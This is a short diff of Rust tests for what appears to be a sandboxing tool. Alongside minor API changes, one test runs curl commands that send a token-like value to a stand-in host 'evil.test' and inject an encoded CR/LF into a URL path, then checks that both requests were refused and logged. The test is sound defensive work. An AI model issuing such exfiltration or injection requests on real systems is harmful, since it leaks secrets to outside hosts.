@@ -94,7 +94,7 @@ on_each! {
         }
         assert!(no_containers(rig));
         // The home of the killed run is kept.
-        rig.options.resume = true;
+        rig.options.resume = Some(Default::default());
         assert_eq!(rig.sh("echo resumed").out, "resumed\n");
     }
 
@@ -157,7 +157,7 @@ on_both! {
 
     what_was_refused_is_in_the_log_after_the_run(rig) {
         rig.sh("curl -sS -o /dev/null http://evil.test/a?token=x; curl -sS -o /dev/null \"http://evil.test/$(printf 'b%%0d%%0a')\"");
-        let denied = logs(&rig.options.state, "dev", None, true);
+        let denied = logs(&rig.options.state, &bot_bottle::engine::Subject { file: std::path::PathBuf::new(), name: "dev".to_owned() }, None, true);
         assert_eq!(denied.len(), 2, "{denied:?}");
         assert_eq!((denied[0].host.as_str(), denied[0].path.as_str()), ("evil.test", "/a"));
     }
